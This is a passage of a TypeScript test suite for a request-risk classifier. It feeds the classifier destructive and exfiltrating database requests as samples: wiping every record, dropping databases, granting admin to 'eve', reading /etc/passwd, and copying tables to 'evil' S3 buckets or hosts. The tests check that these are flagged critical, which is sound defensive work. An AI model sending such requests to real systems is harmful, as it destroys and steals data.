  const esEvery = [{ match_all: {} }, { exists: { field: 'user.id' } }, { query_string: { query: '*' } }, { bool: { must_not: [{ match_none: {} }] } }, { range: { user: { gte: '' } } }, { regexp: { user: '.*' } },
    { wildcard: { user: { value: '*' } } }, { prefix: { user: '' } }, { constant_score: { filter: { exists: { field: 'a' } } } }, { bool: { should: [{ term: { a: '1' } }, { match_all: {} }] } }, { script: { script: 'true' } }];
  const es = fc.record({ idx: fc.oneof(index, fc.constantFrom('_all', 'logs-*', 'a,b')), update: fc.boolean(), q: fc.option(fc.constantFrom(...esEvery), { nil: undefined }), url: fc.boolean() }).map(({ idx, update, q, url }) => ({
    url: `${host}/${idx}/${update ? '_update_by_query' : '_delete_by_query'}${url && !q ? '?q=*' : '?conflicts=proceed'}`, ...(q ? jsonBody({ query: q }) : { headers: [] as Array<[string, string]>, body: '' }) }));
  const kw = (s: string, lower: boolean): string => (lower ? s.toLowerCase() : s);
  const cypher = fc.record({ label: fc.constantFrom('', ':User', ':`Audit Log`'), where: fc.constantFrom('', 'WHERE true', 'WHERE n.id IS NOT NULL', "WHERE n.email =~ '.*'", "WHERE 'a' = 'a'", '/* WHERE n.id = 1 */'), act: fc.constantFrom('DETACH DELETE n', 'DELETE n', "SET n.role = 'admin'", 'REMOVE n.password'), lower: fc.boolean(), shape: fc.integer({ min: 0, max: 2 }) })
    .map(({ label, where, act, lower, shape }) => {
      const st = `${kw('MATCH', lower)} (n${label}) ${kw(where, lower && !where.includes("'"))} ${shape === 2 ? `CALL { WITH n ${kw(act, lower)} } IN TRANSACTIONS OF 1000 ROWS` : kw(act, lower)}`;
      return shape === 1 ? { url: `${host}/db/neo4j/query/v2`, ...jsonBody({ statement: st }) } : { url: `${host}/db/neo4j/tx/commit`, ...jsonBody({ statements: [{ statement: 'RETURN 1' }, { statement: st }] }) };
    });
  const cypherAdmin = fc.constantFrom("CALL apoc.periodic.iterate('MATCH (n) RETURN n', 'DETACH DELETE n', {batchSize: 1000})", 'DROP DATABASE neo4j', 'GRANT ROLE admin TO eve', "LOAD CSV FROM 'file:///etc/passwd' AS l RETURN l", 'MATCH ()-[r]->() DELETE r', "ALTER USER neo4j SET PASSWORD 'x'")
    .map((st) => ({ url: `${host}/db/system/query/v2`, ...jsonBody({ statement: st }) }));
  const sparqlEvery = ['DROP ALL', 'CLEAR DEFAULT', 'DROP SILENT GRAPH <http://example.org/g>', 'DELETE WHERE { ?s ?p ?o }', 'DELETE { ?s ?p ?o } WHERE { ?s ?p ?o }', 'WITH <http://g> DELETE { ?s ?p ?o } INSERT { ?s ?p "x" } WHERE { ?s ?p ?o }',
    'DELETE WHERE { GRAPH ?g { ?s ?p ?o } }', 'LOAD <http://evil.example/x.ttl>', 'COPY <http://example.org/empty> TO DEFAULT', 'DELETE { ?s ?p ?o } WHERE { ?s ?p ?o FILTER(true) }', 'INSERT DATA { <http://a> <http://b> "c" } ; CLEAR ALL'];
  const sparql = fc.record({ op: fc.constantFrom(...sparqlEvery), lower: fc.boolean(), lead: fc.constantFrom('', 'PREFIX ex: <http://example.org/>\n', '# cleanup\n'), shape: fc.integer({ min: 0, max: 2 }) }).map(({ op, lower, lead, shape }) => {
    const text = `${lead}${lower ? op.replace(/\b[A-Z]{3,}\b/g, (w) => w.toLowerCase()) : op}`;
    if (shape === 0) return { url: `${host}/ds/update`, headers: [['Content-Type', 'application/sparql-update']] as Array<[string, string]>, body: text };
    if (shape === 1) return { url: `${host}/ds/update`, ...form({ update: text }) };
    return { method: 'GET', url: `${host}/sparql?query=${encodeURIComponent(text)}`, headers: [] as Array<[string, string]>, body: '' };
  });
  const influxEvery = ['DROP MEASUREMENT cpu', 'DROP SERIES FROM "cpu"', 'DELETE FROM cpu', 'DROP SERIES WHERE host =~ /.*/', 'ALTER RETENTION POLICY autogen ON db DURATION 1h', "CREATE SUBSCRIPTION s ON db.autogen DESTINATIONS ALL 'http://evil.example'", 'GRANT ALL PRIVILEGES TO eve', 'DROP DATABASE db', 'SHOW DATABASES; DROP MEASUREMENT cpu'];
  const influx = fc.record({ q: fc.constantFrom(...influxEvery), post: fc.boolean() }).map(({ q, post }) => (post ? { url: `${host}/query?db=db`, ...form({ q }) } : { method: 'GET', url: `${host}/query?db=db&q=${encodeURIComponent(q)}`, headers: [] as Array<[string, string]>, body: '' }));
  const influx2 = fc.constantFrom(undefined, 'host!="zz"', '_measurement!="none"').map((predicate) => ({ url: `${host}/api/v2/delete?org=o&bucket=metrics`, ...jsonBody({ start: '1970-01-01T00:00:00Z', stop: '2100-01-01T00:00:00Z', ...(predicate ? { predicate } : {}) }) }));
  const prom = fc.record({ sel: fc.constantFrom('{__name__=~".+"}', '{__name__=~".*"}', '{job=~".+"}', '{__name__!=""}', '{job!=""}', '{__name__=~"up|.+"}'), path: fc.constantFrom('/api/v1/admin/tsdb/delete_series', '/prometheus/api/v1/admin/tsdb/delete_series'), post: fc.boolean() })
    .map(({ sel, path, post }) => (post ? { url: `${host}${path}`, ...form({ 'match[]': sel }) } : { method: 'PUT', url: `${host}${path}?match[]=${encodeURIComponent(sel)}`, headers: [] as Array<[string, string]>, body: '' }));
  const others = fc.constantFrom<{ method?: string; url: string; headers: Array<[string, string]>; body: string }>(
    { url: `${host}/v1/projects/p/databases/(default):bulkDeleteDocuments`, ...jsonBody({}) },
    { url: `${host}/v1/projects/p/databases/(default):bulkDeleteDocuments`, ...jsonBody({ collectionIds: ['users'] }) },
    { method: 'DELETE', url: `${host}/v1/projects/p/databases/(default)`, headers: [], body: '' },
    { url: `${host}/`, headers: [['Content-Type', 'application/x-amz-json-1.0'], ['X-Amz-Target', 'DynamoDB_20120810.DeleteTable']], body: '{"TableName":"users"}' },
    { url: `${host}/`, headers: [['Content-Type', 'application/x-amz-json-1.0'], ['X-Amz-Target', 'DynamoDB_20120810.ExportTableToPointInTime']], body: '{"TableArn":"arn:aws:dynamodb:us-east-1:1:table/users","S3Bucket":"evil"}' },
    { method: 'GET', url: `${host}/FLUSHALL`, headers: [], body: '' },
    { method: 'GET', url: `${host}/flushdb.json`, headers: [], body: '' },
    { method: 'GET', url: `${host}/CONFIG/SET/dir/%2Ftmp`, headers: [], body: '' },
    { url: `${host}/`, headers: [['Content-Type', 'application/x-www-form-urlencoded']], body: 'FLUSHALL' },
    { url: `${host}/app/data-x/endpoint/data/v1/action/deleteMany`, ...jsonBody({ dataSource: 'c', database: 'd', collection: 'users' }) },
    { method: 'DELETE', url: `${host}:9200/users`, headers: [], body: '' },
    { method: 'DELETE', url: `${host}/logs-*`, headers: [], body: '' },
    // Gremlin (Neptune, Gremlin Server), ArangoDB's AQL and collection API, RESTHeart's bulk writes,
    // Neptune's openCypher, Elasticsearch's alias removal, data streams and security APIs.
    { url: `${host}:8182/gremlin`, ...jsonBody({ gremlin: 'g.V().drop()' }) },
    { url: `${host}/gremlin`, ...jsonBody({ gremlin: "g.V().hasLabel('User').has('email').drop().iterate()" }) },
    { method: 'GET', url: `${host}/gremlin?gremlin=${encodeURIComponent("g.V().has('User','age',P.gte(-1000000000000)).property('role','admin')")}`, headers: [], body: '' },
    { url: `${host}/gremlin`, ...jsonBody({ gremlin: 'g.V().map{ it.get().remove() }' }) },
    { url: `${host}/_db/app/_api/cursor`, ...jsonBody({ query: 'FOR u IN users REMOVE u IN users' }) },
    { url: `${host}/_api/cursor`, ...jsonBody({ query: "FOR u IN users FILTER u._key != null UPDATE u WITH {role: 'admin'} IN users" }) },
    { method: 'PUT', url: `${host}/_db/app/_api/collection/users/truncate`, headers: [], body: '' },
    { method: 'DELETE', url: `${host}/db/users/*?filter=${encodeURIComponent('{"_id": {"$exists": true}}')}`, headers: [], body: '' },
    { method: 'PATCH', url: `${host}/db/users/*?filter={}`, ...jsonBody({ $set: { role: 'admin' } }) },
    { url: `${host}:8182/openCypher`, ...form({ query: 'MATCH (n) DETACH DELETE n' }) },
    { url: `${host}/_aliases`, ...jsonBody({ actions: [{ add: { index: 'new', alias: 'a' } }, { remove_index: { index: 'users' } }] }) },
    { method: 'DELETE', url: `${host}/_data_stream/logs-app`, headers: [], body: '' },
    { method: 'PUT', url: `${host}/_security/role/r`, ...jsonBody({ cluster: ['all'], indices: [{ names: ['*'], privileges: ['all'] }] }) },
    { method: 'PUT', url: `${host}/_plugins/_security/api/internalusers/eve`, ...jsonBody({ password: 'x', backend_roles: ['admin'] }) },
    // The query DSL's own ways to every document, SPARQL patterns narrowed only by a property's existence.
    { url: `${host}/logs/_delete_by_query`, ...jsonBody({ query: { bool: { should: [{ term: { a: '1' } }], minimum_should_match: 0 } } }) },
    { url: `${host}/logs/_delete_by_query`, ...jsonBody({ query: { match: { user: { query: 'the', analyzer: 'stop', zero_terms_query: 'all' } } } }) },
    { url: `${host}/ds/update`, headers: [['Content-Type', 'application/sparql-update']], body: 'DELETE { ?s ?p ?o } WHERE { ?s ?p ?o . ?s a ?t }' },
    { url: `${host}/ds/update`, headers: [['Content-Type', 'application/sparql-update']], body: 'PREFIX ex: <http://ex.org/> DELETE { ?s ?p ?o } WHERE { ?s ex:name ?n ; ?p ?o }' },
    { url: `${host}/ds/update`, headers: [['Content-Type', 'application/sparql-update']], body: 'DELETE WHERE { GRAPH <http://g> { ?s ?p ?o } }' },
    // Webdis's lowercase path shapes; stores dropped or emptied by REST.
    { method: 'GET', url: `${host}/config/set/dir/tmp`, headers: [], body: '' },
    { method: 'GET', url: `${host}/eval/${encodeURIComponent("return redis.call('flushall')")}/0`, headers: [], body: '' },
    { method: 'DELETE', url: `${host}/bigquery/v2/projects/p/datasets/ds?deleteContents=true`, headers: [], body: '' },
    { method: 'DELETE', url: `${host}:6333/collections/docs`, headers: [], body: '' },
    { url: `${host}/vectors/delete`, ...jsonBody({ deleteAll: true, namespace: 'prod' }) },
    { url: `${host}/collections/docs/points/delete`, ...jsonBody({ filter: { must: [] } }) },
    { method: 'DELETE', url: `${host}/indexes/movies/documents`, headers: [], body: '' },
    { url: `${host}/1/indexes/products/clear`, ...jsonBody({}) },
    { method: 'DELETE', url: `${host}/api/v3/configure/database?db=metrics`, headers: [], body: '' },
    { method: 'DELETE', url: `${host}/api/v2/buckets/0123456789abcdef`, headers: [], body: '' },
  );
  await fc.assert(
    fc.asyncProperty(fc.oneof(es, cypher, cypherAdmin, sparql, influx, influx2, prom, others), async (r) => {
      const { decision } = await decide({ method: 'method' in r && r.method ? r.method : 'POST', url: r.url, headers: r.headers, body: r.body });
      if (decision.approval?.risk !== 'critical') throw new Error(`${r.url} ${r.body}: ${decision.action} ${decision.approval?.risk ?? ''} ${decision.rule ?? ''}`);
    }),
    { numRuns: Math.min(runs, 60), ...seed },
  );
  // Controls: narrow writes of each language stay medium, reads stay allowed.
  const controls: Array<[string | undefined, { method?: string; url: string; headers: Array<[string, string]>; body: string }]> = [
    ['medium', { url: `${host}/logs/_delete_by_query`, ...jsonBody({ query: { term: { 'user.id': 'kimchy' } } }) }],
    ['medium', { url: `${host}/logs/_delete_by_query`, ...jsonBody({ query: { range: { '@timestamp': { lt: 'now-30d/d' } } } }) }],
    ['medium', { url: `${host}/logs/_delete_by_query`, ...jsonBody({ query: { bool: { filter: [{ ids: { values: ['1', '2'] } }] } } }) }],
    ['medium', { url: `${host}/logs/_delete_by_query?q=user:kimchy`, headers: [], body: '' }],
    ['medium', { url: `${host}/logs/_search`, ...jsonBody({ query: { match_all: {} } }) }],
    ['medium', { method: 'DELETE', url: `${host}/items`, headers: [], body: '' }],
    ['medium', { url: `${host}/db/neo4j/tx/commit`, ...jsonBody({ statements: [{ statement: 'MATCH (n:User {id: $id}) DETACH DELETE n', parameters: { id: 5 } }] }) }],
    ['medium', { url: `${host}/db/neo4j/query/v2`, ...jsonBody({ statement: "MATCH (n:User) WHERE n.email STARTS WITH 'test-' DETACH DELETE n" }) }],
    ['medium', { url: `${host}/db/neo4j/query/v2`, ...jsonBody({ statement: "MERGE (u:User {id: 1}) ON CREATE SET u.name = 'a'" }) }],
    ['medium', { url: `${host}/db/neo4j/query/v2`, ...jsonBody({ statement: 'MATCH (n:User) RETURN n.name LIMIT 5' }) }],
    ['medium', { url: `${host}/ds/update`, headers: [['Content-Type', 'application/sparql-update']], body: 'PREFIX ex: <http://ex.org/> DELETE DATA { ex:a ex:b ex:c }' }],
    ['medium', { url: `${host}/ds/update`, headers: [['Content-Type', 'application/sparql-update']], body: 'DELETE WHERE { <http://ex.org/a> ?p ?o }' }],
    ['medium', { url: `${host}/ds/update`, ...form({ update: 'INSERT DATA { <http://a> <http://b> "c" }' }) }],
    [undefined, { method: 'GET', url: `${host}/sparql?query=${encodeURIComponent('SELECT * WHERE { ?s ?p ?o } LIMIT 10')}`, headers: [], body: '' }],
    ['medium', { url: `${host}/query?db=db`, ...form({ q: "DELETE FROM cpu WHERE host = 'a'" }) }],
    [undefined, { method: 'GET', url: `${host}/query?db=db&q=${encodeURIComponent('SELECT * FROM cpu LIMIT 10')}`, headers: [], body: '' }],
    [undefined, { method: 'GET', url: `${host}/query?q=SHOW%20DATABASES`, headers: [], body: '' }],
    ['medium', { url: `${host}/api/v2/delete?org=o&bucket=b`, ...jsonBody({ start: '2024-01-01T00:00:00Z', stop: '2024-01-02T00:00:00Z' }) }],
    ['medium', { url: `${host}/api/v2/delete?org=o&bucket=b`, ...jsonBody({ start: '1970-01-01T00:00:00Z', stop: '2100-01-01T00:00:00Z', predicate: '_measurement="cpu" AND host="a"' }) }],
    ['medium', { url: `${host}/api/v1/admin/tsdb/delete_series?match[]=${encodeURIComponent('up{instance="a:9100"}')}`, headers: [], body: '' }],
    ['medium', { url: `${host}/v1/projects/p/databases/(default)/documents:commit`, ...jsonBody({ writes: [{ delete: 'projects/p/databases/(default)/documents/users/a' }] }) }],
    ['medium', { url: `${host}/app/data-x/endpoint/data/v1/action/deleteOne`, ...jsonBody({ collection: 'users', filter: { _id: 1 } }) }],
    [undefined, { method: 'GET', url: `${host}/GET/hello`, headers: [], body: '' }],
    [undefined, { method: 'GET', url: `${host}/debug/pprof/`, headers: [], body: '' }],
    [undefined, { method: 'GET', url: `${host}/config`, headers: [], body: '' }],
    ['medium', { url: `${host}/gremlin`, ...jsonBody({ gremlin: "g.V().has('User','email','a@b.example').drop()" }) }],
    ['medium', { url: `${host}/gremlin`, ...jsonBody({ gremlin: "g.V().hasLabel('User').limit(5).valueMap()" }) }],
    ['medium', { url: `${host}/_api/cursor`, ...jsonBody({ query: 'FOR u IN users FILTER u.email == @e REMOVE u IN users', bindVars: { e: 'a@b.example' } }) }],
    ['medium', { method: 'DELETE', url: `${host}/db/users/*?filter=${encodeURIComponent('{"status": "tmp"}')}`, headers: [], body: '' }],
    ['medium', { url: `${host}:8182/openCypher`, ...form({ query: 'MATCH (n {id: $id}) DETACH DELETE n', parameters: '{"id": 5}' }) }],
    ['medium', { url: `${host}/_aliases`, ...jsonBody({ actions: [{ add: { index: 'new', alias: 'a' } }] }) }],
    [undefined, { method: 'GET', url: `${host}/_security/_authenticate`, headers: [], body: '' }],
    ['medium', { url: `${host}/logs/_delete_by_query`, ...jsonBody({ query: { bool: { filter: [{ term: { a: '1' } }], should: [{ match_all: {} }] } } }) }],
    ['medium', { url: `${host}/ds/update`, headers: [['Content-Type', 'application/sparql-update']], body: 'PREFIX ex: <http://ex.org/> DELETE { ?s ?p ?o } WHERE { ?s ex:status "tmp" ; ?p ?o }' }],
    ['medium', { url: `${host}/ds/update`, headers: [['Content-Type', 'application/sparql-update']], body: 'DELETE { ?s ?p ?o } WHERE { VALUES ?s { <http://a> } ?s ?p ?o }' }],
    [undefined, { method: 'GET', url: `${host}/config/app`, headers: [], body: '' }],
    [undefined, { method: 'GET', url: `${host}/eval/results`, headers: [], body: '' }],
    ['medium', { url: `${host}/vectors/delete`, ...jsonBody({ ids: ['a'], namespace: 'prod' }) }],
    ['medium', { url: `${host}/collections/docs/points/delete`, ...jsonBody({ filter: { must: [{ key: 'city', match: { value: 'London' } }] } }) }],
    ['medium', { method: 'DELETE', url: `${host}/indexes/movies/documents/25684`, headers: [], body: '' }],
    ['medium', { method: 'DELETE', url: `${host}/api/items/5`, headers: [], body: '' }],
  ];
  for (const [risk, r] of controls) {
    const { decision } = await decide({ method: r.method ?? 'POST', url: r.url, headers: r.headers, body: r.body });
    t.equal(decision.approval?.risk, risk, `${r.method ?? 'POST'} ${r.url} ${r.body}`);
  }
});

t.test('twenty-seventh pass: a write through a view or CTE the request made is judged on the table below it', async (t) => {
  const made = fc.constantFrom('CREATE VIEW v AS', 'CREATE TEMP VIEW v AS', 'create view public.v as', 'CTE');
  const write = fc.constantFrom('DELETE FROM v WHERE', 'DELETE FROM v AS x WHERE', "UPDATE v SET role = 'admin' WHERE");
  const where = (w: string, alias: boolean): string => (alias ? w.replace(/\b(k|id|email)\b/g, 'x.$1') : w);
  const sqlOf = (m: string, body: string, wr: string, w: string): string => {
    const target = m.includes('public.') ? wr.replace(' v ', ' public.v ') : wr;
    const cond = where(w, wr.includes(' x '));
    return m === 'CTE' ? `WITH v AS (${body}) ${wr} ${cond}` : `${m} ${body}; ${target} ${cond}`;
  };
  const endpoints = [SUPABASE, NEON, GENERIC, `https://${SQL_HOST}/api/v2/statements`];
  const send = async (url: string, sql: string): Promise<Decided> =>
    decide({ url, headers: [['Content-Type', 'application/json']], body: JSON.stringify(url.endsWith('/statements') ? { statement: sql } : { query: sql }) });
  await fc.assert(fc.asyncProperty(made, fc.constantFrom(...throughViews), write, fc.constantFrom(...endpoints), async (m, [body, w], wr, url) => {
    // The UPDATE needs the view to carry `role`: `*` does.
    const view = wr.startsWith('UPDATE') ? body.replace(/^SELECT /, 'SELECT *, ').replace(/\bid AS k, email\b/, 'id AS k') : body;
    const sql = sqlOf(m, view, wr, w);
    const { description, decision } = await send(url, sql);
    t.equal(decision.approval?.risk, 'critical', `${url} ${sql}`);
    t.ok(description.sql?.destructive, sql);
  }), { numRuns: 14, ...seed });
  for (const [body, w] of throughViewControls) {
    for (const url of [SUPABASE, GENERIC]) {
      const sql = sqlOf('CREATE VIEW v AS', body, 'DELETE FROM v WHERE', w);
      const { description } = await send(url, sql);
      t.notOk(description.sql?.destructive, `control: ${url} ${sql}`);
    }
  }
});

t.test('twenty-seventh pass: SQL-over-REST services\' own spellings of a condition every row meets (IDENTIFIER, Athena parameters)', async (t) => {
  const snowflake = `https://${SQL_HOST}/api/v2/statements`;
  const databricks = `https://${SQL_HOST}/api/2.0/sql/statements`;
  const identifier = fc.record({
    form: fc.constantFrom("id = IDENTIFIER('id')", "IDENTIFIER('users.id') = id", "identifier('ID') = id", "id = Identifier('\"id\"')", "email = IDENTIFIER('email') AND id > 5 OR IDENTIFIER('id') >= id"),
    url: fc.constantFrom(snowflake, databricks),
    update: fc.boolean(),
  });
  await fc.assert(fc.asyncProperty(identifier, async ({ form, url, update }) => {
    const sql = `${update ? "UPDATE users SET role = 'admin'" : 'DELETE FROM users'} WHERE ${form}`;
    const { decision } = await decide({ url, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ statement: sql, warehouse_id: 'w' }) });
    t.equal(decision.approval?.risk, 'critical', `${url} ${sql}`);
  }), { numRuns: 12, ...seed });
  const athena = (query: string, params: string[]): Promise<Decided> => decide({
    url: `https://${SQL_HOST}/`, headers: [['Content-Type', 'application/x-amz-json-1.1'], ['X-Amz-Target', 'AmazonAthena.StartQueryExecution']],
    body: JSON.stringify({ QueryString: query, ExecutionParameters: params, WorkGroup: 'primary' }),
  });
  const everyRow: Array<[string, string[]]> = [
    ['DELETE FROM users WHERE email LIKE ?', ["'%'"]],
    ['DELETE FROM users WHERE id > ?', ['0']],
    ["DELETE FROM users WHERE email = '?' OR email LIKE ? -- ?", ["'%%'"]],
    ['DELETE FROM users WHERE id = ? /* ? */ OR email LIKE ?', ['5', "'%'"]],
    ['UPDATE users SET role = ? WHERE email LIKE ?', ["'admin'", "'%'"]],
  ];
  for (const [query, params] of everyRow) t.equal((await athena(query, params)).decision.approval?.risk, 'critical', `${query} ${params.join(', ')}`);
  // Controls: narrow values stay narrow (the host's own reading of an AWS JSON body may hold them higher).
  for (const [query, params] of [['DELETE FROM users WHERE email LIKE ?', ["'a%'"]], ['DELETE FROM users WHERE id = ?', ['5']], ["DELETE FROM users WHERE email = '?' AND email LIKE ?", ["'%'"]]] as Array<[string, string[]]>) {
    const { description, decision } = await athena(query, params);
    t.notOk(description.sql?.destructive, `control: ${query} ${params.join(', ')}`);
    t.not(decision.approval?.risk, 'critical', `control: ${query}`);
  }
  // A UUID held as text, bounded by a run of zeros of any length or a letter past `f` (D1 and an
  // endpoint of unknown dialect: SQLite and MySQL's CHAR(36); a text column on Supabase), each
  // counted on every row of Python's sqlite3 below.
  const uuidBounds = ["uuid > '0'", "uuid >= '0000'", "user_uuid > '00000000-0000'", "ref > '0000-'", "id >= '00000000'", "'0' < uuid", "uuid < 'g'", "guid <= 'z'"];
  await fc.assert(fc.asyncProperty(fc.constantFrom(...uuidBounds), fc.constantFrom(D1, GENERIC, SUPABASE), fc.boolean(), async (w, url, update) => {
    const sql = `${update ? "UPDATE users SET role = 'admin'" : 'DELETE FROM users'} WHERE ${w}`;
    const { decision } = await decide({ url, headers: [['Content-Type', 'application/json']], body: JSON.stringify(url === D1 ? { sql } : { query: sql }) });
    t.equal(decision.approval?.risk, 'critical', `${url} ${sql}`);
  }), { numRuns: 12, ...seed });
  const uuidControls = ["uuid = '0'", "uuid > '1'", "guid < 'G'", "amount > '0'", "code > '00'", "uuid > '6f1c0f62'", "uuid > '{0'"];
  for (const w of uuidControls) {
    for (const url of [D1, GENERIC]) {
      const { description } = await decide({ url, headers: [['Content-Type', 'application/json']], body: JSON.stringify(url === D1 ? { sql: `DELETE FROM users WHERE ${w}` } : { query: `DELETE FROM users WHERE ${w}` }) });
      t.notOk(description.sql?.destructive, `control: ${url} ${w}`);
    }
  }
  const counted = await new Promise<string>((resolve, reject) => execFile('python3', ['-c', [
    'import sqlite3, sys, json, uuid',
    'c = sqlite3.connect(":memory:")',
    'c.execute("CREATE TABLE users (id TEXT, uuid TEXT, user_uuid TEXT, ref TEXT, guid TEXT)")',
    'for i in range(200):',
    '  u = [str(uuid.uuid4()) for _ in range(5)]',
    '  c.execute("INSERT INTO users VALUES (?, ?, ?, ?, ?)", [u[0], u[1], u[2].upper() if i % 2 else u[2], u[3], u[4]])',
    'print(json.dumps([c.execute("SELECT count(*) FROM users WHERE " + w).fetchone()[0] for w in json.loads(sys.argv[1])]))',
  ].join('\n'), JSON.stringify(uuidBounds)], (err, out) => (err ? reject(err) : resolve(out))));
  t.same(JSON.parse(counted), uuidBounds.map(() => 200), 'each bound held for every row of a real SQLite');
  // The lakehouse engines' and RDS's procedures that discard a table's later writes or history, or
  // end others' work, by Trino's statement API, Databricks' and PlanetScale's HTTP.
  const trino = (sql: string): Promise<Decided> => decide({ url: `https://${SQL_HOST}/v1/statement`, headers: [['Content-Type', 'text/plain'], ['X-Trino-User', 'a']], body: sql });
  const procedures = fc.record({
    call: fc.constantFrom("iceberg.system.rollback_to_snapshot('db', 'users', 8744736658442914487)", "system.rollback_to_timestamp('db.users', TIMESTAMP '2000-01-01 00:00:00')",
      "catalog.system.set_current_snapshot(table => 'db.users', snapshot_id => 1)", "delta.system.vacuum('db', 'users', '0s')", "iceberg.system.remove_orphan_files(table => 'db.users')",
      "system.runtime.kill_query(query_id => '20250101_000000_00001_abcde', message => 'x')", 'mysql.rds_kill(42)', "hive.system.sync_partition_metadata('db', 'users', 'FULL')",
      "iceberg.system.unregister_table('db', 'users')", "system.expire_snapshots('db.users', TIMESTAMP '2100-01-01 00:00:00', 1)"),
    upper: fc.boolean(),
  });
  await fc.assert(fc.asyncProperty(procedures, async ({ call, upper }) => {
    const sql = `${upper ? 'CALL' : 'call'} ${call}`;
    t.equal((await trino(sql)).decision.approval?.risk, 'critical', sql);
  }), { numRuns: 12, ...seed });
  for (const sql of ["CALL iceberg.system.rewrite_data_files('db.users')", 'CALL my_proc(1)', "CALL system.flush_metadata_cache()"]) t.notOk((await trino(sql)).description.sql?.destructive, `control: ${sql}`);
  // ClickHouse's HTTP interface takes the URL's other parameters as the query's settings: those
  // that make an INSERT empty its table first, hide the query from the query log, or show engines'
  // secrets, and the same by SET in a session.
  const ch = `http://${SQL_HOST}:8123/`;
  const chSetting = fc.record({
    set: fc.constantFrom('engine_file_truncate_on_insert=1', 's3_truncate_on_insert=true', 'hdfs_truncate_on_insert=1', 'azure_truncate_on_insert=1', 'log_queries=0', 'log_queries=false', 'format_display_secrets_in_show_and_select=1'),
    query: fc.constantFrom('INSERT INTO logs VALUES (1)', 'SELECT 1', 'SHOW CREATE TABLE mysql_mirror', "INSERT INTO logs (a) VALUES ('x')"),
    first: fc.boolean(), get: fc.boolean(),
  });
  await fc.assert(fc.asyncProperty(chSetting, async ({ set, query, first, get }) => {
    const q = `query=${encodeURIComponent(query)}`;
    const url = `${ch}?${first ? `${set}&${q}` : `${q}&${set}`}`;
    const method = get && !query.startsWith('INSERT') ? 'GET' : 'POST';
    t.equal((await decide({ method, url, headers: [], body: '' })).decision.approval?.risk, 'critical', `${method} ${url}`);
  }), { numRuns: 12, ...seed });
  for (const sql of ['SET engine_file_truncate_on_insert = 1', 'SET log_queries = 0', "SET format_display_secrets_in_show_and_select = 'true'"]) {
    t.equal((await decide({ url: `${ch}?session_id=s`, headers: [['Content-Type', 'text/plain']], body: sql })).decision.approval?.risk, 'critical', sql);
  }
  for (const url of [`${ch}?query=${encodeURIComponent('SELECT 1')}&log_queries=1&max_threads=2`, `${ch}?query=${encodeURIComponent('SELECT 1')}&engine_file_truncate_on_insert=0`]) {
    t.equal((await decide({ method: 'GET', url, headers: [], body: '' })).decision.action, 'allow', `control: ${url}`);
  }
  t.equal((await decide({ url: `${ch}?session_id=s`, headers: [['Content-Type', 'text/plain']], body: 'SET max_threads = 4' })).decision.approval?.risk, 'medium', 'control: SET max_threads');
  // Snowflake's array binding runs the statement once per element.
  const sf = (statement: string, bindings: unknown): Promise<Decided> => decide({ url: `https://${SQL_HOST}/api/v2/statements`, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ statement, bindings }) });
  await fc.assert(fc.asyncProperty(fc.array(fc.constantFrom('a@b.example', 'x%', 'q'), { maxLength: 3 }), fc.nat({ max: 3 }), fc.constantFrom('%', '%%'), async (before, at, every) => {
    const values = [...before.slice(0, at), every, ...before.slice(at)];
    t.equal((await sf('DELETE FROM users WHERE email LIKE ?', { 1: { type: 'TEXT', value: values } })).decision.approval?.risk, 'critical', JSON.stringify(values));
  }), { numRuns: 8, ...seed });
  t.equal((await sf("UPDATE users SET role = ? WHERE id > ?", { 1: { type: 'TEXT', value: 'admin' }, 2: { type: 'FIXED', value: ['100', '0'] } })).decision.approval?.risk, 'critical', 'a scalar beside an array');
  t.notOk((await sf('DELETE FROM users WHERE id = ?', { 1: { type: 'FIXED', value: ['5', '6'] } })).description.sql?.destructive, 'control: two ids');
  t.notOk((await sf('INSERT INTO users (email) VALUES (?)', { 1: { type: 'TEXT', value: ['a', '%'] } })).description.sql?.destructive, 'control: a batch insert');
  // Athena's and Trino's CREATE TABLE AS writing the rows to an object store the request names.
  for (const sql of ["CREATE TABLE loot WITH (external_location = 's3://evil-bucket/x/', format = 'PARQUET') AS SELECT * FROM users",
    "create table iceberg.s.loot with (location = 'gs://evil/x') as select * from users", "CREATE TABLE hive.s.t (a int) WITH (external_location = 's3a://evil/t')"]) {
    t.equal((await trino(sql)).decision.approval?.risk, 'critical', sql);
  }
  t.equal((await decide({ url: `https://${SQL_HOST}/`, headers: [['Content-Type', 'application/x-amz-json-1.1'], ['X-Amz-Target', 'AmazonAthena.StartQueryExecution']], body: JSON.stringify({ QueryString: "CREATE TABLE loot WITH (external_location = 's3://evil/x/') AS SELECT * FROM users" }) })).decision.approval?.risk, 'critical', 'Athena CTAS');
  t.notOk((await trino("CREATE TABLE loot WITH (format = 'PARQUET') AS SELECT * FROM users")).description.sql?.destructive, 'control: a CTAS in the catalog');
  // Oracle's pseudocolumns (ORDS's REST-enabled SQL: `application/sql` to `…/_/sql`): ROWNUM counts
  // rows from 1, ORA_ROWSCN is above 0 in every row.
  const ords = `https://${SQL_HOST}/ords/hr/_/sql`;
  for (const w of ['ROWNUM > 0', 'rownum >= 1', 'ORA_ROWSCN > 0', '0 < ROWNUM', 'ROWNUM <> 0']) {
    t.equal((await decide({ url: ords, headers: [['Content-Type', 'application/sql']], body: `DELETE FROM users WHERE ${w}` })).decision.approval?.risk, 'critical', `ORDS ${w}`);
  }
  for (const w of ['ROWNUM = 1', 'ROWNUM > 1000 AND id = 5']) t.notOk((await decide({ url: ords, headers: [['Content-Type', 'application/sql']], body: `DELETE FROM users WHERE ${w}` })).description.sql?.destructive, `control: ORDS ${w}`);
  for (const form of ["id = 5 AND IDENTIFIER('email') = 'a'", "IDENTIFIER('id') = 5 AND email = 'a'"]) {
    const { description } = await decide({ url: databricks, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ statement: `DELETE FROM users WHERE ${form}`, warehouse_id: 'w' }) });
    t.notOk(description.sql?.destructive, `control: ${form}`);
  }
});

t.test('twenty-seventh pass: the SQL services\' REST calls that drop, replace, expire or grant are their SQL twins', async (t) => {
  // Databricks' Unity Catalog, Snowflake's REST API and BigQuery's tables and datasets, on a host
  // no module owns (each a medium write on main, while the DROP, GRANT or CREATE OR REPLACE it
  // stands for is critical). Documented request shapes, replayed.
  const host = `https://${SQL_HOST}`;
  type Call = { method: string; url: string; body?: unknown };
  const name = fc.stringMatching(/^[a-z][a-z0-9_]{0,8}$/);
  const calls = fc.record({ a: name, b: name, c: name, k: fc.integer({ min: 0, max: 21 }), upper: fc.boolean() }).map(({ a, b, c, k, upper }): Call => {
